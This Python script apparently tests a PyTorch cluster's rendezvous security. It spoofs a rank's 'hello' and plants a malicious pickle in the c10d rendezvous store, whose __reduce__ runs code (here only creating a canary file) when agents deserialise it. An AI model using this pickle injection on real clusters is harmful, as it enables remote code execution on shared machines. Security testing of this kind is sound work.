"""Somebody on the cluster's network without the secret of a start. It speaks the protocol of torch's store with rank 0 or torchrun's agent.

python stranger.py HOST PORT hello START RANK    claims to be a rank, and waits for an answer
python stranger.py HOST PORT bomb RUN CANARY     leaves a pickle, which makes the file CANARY, where agents of the c10d rendezvous read their state
"""

import base64
import json
import pickle
import sys
from datetime import timedelta
from pathlib import Path

import torch.distributed as dist


class Bomb:
    def __init__(self, canary: str) -> None:
        self.canary = Path(canary)

    def __reduce__(self) -> tuple[object, tuple[Path]]:
        return Path.touch, (self.canary,)


def main(host: str, port: str, what: str, name: str, more: str) -> None:
    store = dist.TCPStore(host, int(port), timeout=timedelta(seconds=30), wait_for_workers=False)
    if what == "bomb":
        store.set(f"torch.rendezvous.{name}", base64.b64encode(pickle.dumps(Bomb(more))))
        return
    hello = {"token": "stranger", "host": "n3", "size": 2, "master": "10.77.0.1", "proof": "0" * 64}
    start = dist.PrefixStore(name, store)
    start.set(f"hello/{more}", json.dumps(hello))
    try:
        start.wait(["answer/stranger"], timedelta(seconds=2))
        print("answered")
    except dist.DistStoreError:
        print("no answer")


if __name__ == "__main__":
    main(*sys.argv[1:])
